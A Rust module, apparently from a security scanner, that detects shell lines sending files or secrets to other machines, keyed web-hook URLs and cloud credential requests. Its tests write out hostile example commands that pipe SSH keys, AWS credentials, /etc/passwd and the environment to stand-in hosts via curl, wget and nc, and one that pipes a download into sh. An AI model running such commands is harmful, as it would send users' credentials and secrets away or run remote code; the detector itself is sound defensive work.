//! What a command line sends away, and addresses that carry their key: both are texts whose parts
//! mean something only together.

use super::capability::Capability;
use super::strings;

/// Bytes of a command line that are looked at.
const LOOKED_AT: usize = 4_096;

/// The words of a line of a shell, without their quotes.
fn words(line: &str) -> impl Iterator<Item = &str> {
    let apart = |it: char| it.is_whitespace() || "'\"`;|&()<>".contains(it);
    line.split(apart).filter(|it| !it.is_empty())
}

/// Whether a line, in lower case, sends a file or what another program tells to another machine:
/// `curl -d @- https://…`, `wget --post-file=…`, `scp x user@host:`, `… | nc host 80`.
pub(super) fn sends(lower: &str) -> bool {
    if lower.len() > LOOKED_AT {
        return false;
    }
    let mut parts = lower.split(['|', ';', '&', '\n', '(', ')']);
    parts.any(|part| {
        let mut words = words(part).skip_while(|it| matches!(*it, "sudo" | "nohup" | "-" | "then"));
        let program = words.next().unwrap_or_default();
        let program = program.rsplit('/').next().unwrap_or(program);
        let rest: Vec<&str> = words.collect();
        match program.strip_suffix(".exe").unwrap_or(program) {
            "curl" => curl_sends(&rest),
            "wget" => rest
                .iter()
                .any(|it| it.starts_with("--post-file") || it.starts_with("--body-file")),
            "scp" | "rsync" | "sftp" => rest.iter().any(|it| is_remote(it)),
            "nc" | "ncat" | "netcat" => {
                let is_port = |it: &&&str| it.parse::<u16>().is_ok_and(|it| it > 0);
                let listens = rest.iter().any(|it| it.starts_with("-l") || *it == "-z");
                !listens && rest.iter().any(|it| is_port(&it)) && lower.contains(['|', '<'])
            }
            _ => false,
        }
    })
}

/// `-d @file`, `--data-binary @-`, `-F a=@file`, `-T file`, in one word or two.
fn curl_sends(words: &[&str]) -> bool {
    let gives_file = |it: &str| {
        let value = it
            .trim_start_matches("--data-binary")
            .trim_start_matches("--data-raw")
            .trim_start_matches("--data-urlencode")
            .trim_start_matches("--data")
            .trim_start_matches("--form");
        value.trim_start_matches('=').starts_with('@') || it.starts_with("-d@") || it.contains("=@")
    };
    // `-T` may end several options in one word.
    let is_short = |it: &str| !it.starts_with("--") && it.ends_with('t');
    let uploads = |it: &str| it == "--upload-file" || is_short(it);
    words.windows(2).any(|pair| match pair {
        [option, value] if option.starts_with('-') => {
            let is_data = option.contains('d') || option.contains('f');
            (is_data && gives_file(value)) || (uploads(option) && !value.starts_with("http"))
        }
        _ => false,
    }) || words.iter().any(|it| it.starts_with('-') && gives_file(it))
}

/// `user@host:path`.
fn is_remote(word: &str) -> bool {
    word.split_once(':').is_some_and(|(host, _)| {
        host.split_once('@')
            .is_some_and(|(user, host)| !user.is_empty() && host.contains('.'))
    })
}

/// What is named in a line that sends: files of credentials, and folders of them; the environment
/// where a program that tells it is first.
pub(super) fn sent(line: &str) -> Vec<Capability> {
    let mut told = Vec::new();
    if line.len() > LOOKED_AT {
        return told;
    }
    for word in words(line) {
        let word = word.trim_end_matches('/').trim_start_matches("$HOME/");
        strings::capabilities(word, &mut told);
    }
    let mut firsts = line.split(['|', ';', '&', '\n', '(']).map(str::trim);
    if firsts.any(|it| matches!(it, "env" | "printenv" | "set" | "export")) {
        told.push(Capability::Environment);
    }
    told
}

/// Whether an address is one of a web hook with its key in it, whatever its host: a bot's, or that of
/// a channel. What honest programs send to such is in their settings.
pub(super) fn is_keyed_web_hook(text: &str) -> bool {
    text.len() < 2_000 && text.contains("://") && (is_bot(text) || is_channel(text))
}

/// `/bot7400000000:AAF…/sendMessage`.
fn is_bot(text: &str) -> bool {
    let mut after = text.split("/bot").skip(1);
    after.any(|it| {
        let Some((number, key)) = it.split_once(':') else {
            return false;
        };
        let is_key = |it: char| it.is_ascii_alphanumeric() || matches!(it, '-' | '_');
        let length = key.find(|it| !is_key(it)).unwrap_or(key.len());
        number.len() >= 6 && number.bytes().all(|it| it.is_ascii_digit()) && length >= 30
    })
}

/// `/api/webhooks/100000000000000000/…`, `/services/T0…/B0…/…`.
fn is_channel(text: &str) -> bool {
    let parts: Vec<&str> = text.split(['/', '?']).collect();
    let is_number =
        |it: &str| (15..=25).contains(&it.len()) && it.bytes().all(|it| it.is_ascii_digit());
    let is_code = |it: &str, first: char| {
        it.len() >= 9
            && it.starts_with(first)
            && it
                .bytes()
                .all(|it| it.is_ascii_uppercase() || it.is_ascii_digit())
    };
    // Documentation says `T00000000/B00000000`.
    let is_real = |it: &str| {
        it.bytes()
            .any(|it| !matches!(it, b'0' | b'T' | b'B' | b'X'))
    };
    parts.windows(3).any(|it| match it {
        ["webhooks", id, key] => is_number(id) && key.len() >= 20,
        [team, channel, key] => {
            is_code(team, 'T') && is_code(channel, 'B') && is_real(team) && key.len() >= 20
        }
        _ => false,
    })
}

/// Whether a text asks a cloud for credentials, not only for what a machine is.
pub(super) fn asks_cloud_credentials(text: &str) -> bool {
    let lower = text.to_ascii_lowercase();
    lower.contains("/security-credentials")
        || lower.contains("identity/oauth2/token")
        || lower.contains("169.254.170.2")
        || (lower.contains("service-accounts/") && lower.contains("/token"))
}

/// Whether a host is one of the clouds whose credentials these are: they are made to go there.
pub(super) fn is_of_cloud(host: &str) -> bool {
    const CLOUDS: [&str; 16] = [
        "amazonaws.com",
        "amazonaws.com.cn",
        "googleapis.com",
        "google.com",
        "google.internal",
        "azure.com",
        "azure.net",
        "windows.net",
        "microsoftonline.com",
        "azure.cn",
        "aliyuncs.com",
        "oraclecloud.com",
        "tencentyun.com",
        "tencentcloudapi.com",
        "myhuaweicloud.com",
        "100.100.100.200",
    ];
    host.starts_with("169.254.")
        || CLOUDS.iter().any(|it| {
            host.strip_suffix(it)
                .is_some_and(|rest| rest.is_empty() || rest.ends_with('.'))
        })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lines_that_send_are_told_from_lines_that_fetch() {
        for line in [
            "tar czf - .ssh .aws | curl -s -x post --data-binary @- https://x.invalid/",
            "curl -sf 'f=@/tmp/a' https://x.invalid/up",
            "curl --data=@/tmp/a x.invalid",
            "zip -r - ~/.ssh | curl -st - https://x.invalid/",
            "wget -q --post-file=/etc/passwd x.invalid",
            "scp -q /tmp/s.tgz up@192.0.2.130:in/",
            "cat ~/.aws/credentials | nc x.invalid 443",
        ] {
            assert!(sends(line), "{line}");
        }
        for line in [
            "curl -fssl https://x.invalid/i.sh | sh",
            "curl -o a -d x=1 https://x.invalid",
            "rsync -a src/ dist/",
            "scp a b",
            "nc -z localhost 80",
            "",
        ] {
            assert!(!sends(line), "{line}");
        }
    }

    #[test]
    fn what_a_line_sends_is_named_in_it() {
        let line = "cd ~ && tar czf - .ssh .config/gcloud | curl -d @- https://x.invalid";
        assert_eq!(
            sent(line),
            [Capability::SettingsPath, Capability::CredentialPath]
        );
        assert_eq!(
            sent("env | curl -d @- x.invalid"),
            [Capability::Environment]
        );
    }

    #[test]
    fn web_hooks_with_their_key_are_known_on_every_host() {
        let key = "A".repeat(35);
        for text in [
            format!("https://api.x.invalid/bot7400000000:{key}/sendMessage"),
            format!("https://x.invalid/api/webhooks/100000000000000000/{key}"),
            format!("https://hooks.x.invalid/services/T12345678/B12345678/{key}"),
        ] {
            assert!(is_keyed_web_hook(&text), "{text}");
        }
        for text in [
            "https://api.x.invalid/bot{token}/sendMessage",
            "https://x.invalid/robot:a",
            "https://hooks.x.invalid/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX",
            "https://x.invalid/api/webhooks/",
        ] {
            assert!(!is_keyed_web_hook(text), "{text}");
        }
    }

    #[test]
    fn credentials_of_clouds_are_told_from_facts_about_machines() {
        assert!(asks_cloud_credentials(
            "meta-data/iam/security-credentials/"
        ));
        assert!(!asks_cloud_credentials("latest/meta-data/instance-id"));
        assert!(is_of_cloud("sts.amazonaws.com"));
        assert!(!is_of_cloud("notamazonaws.com"));
    }
}
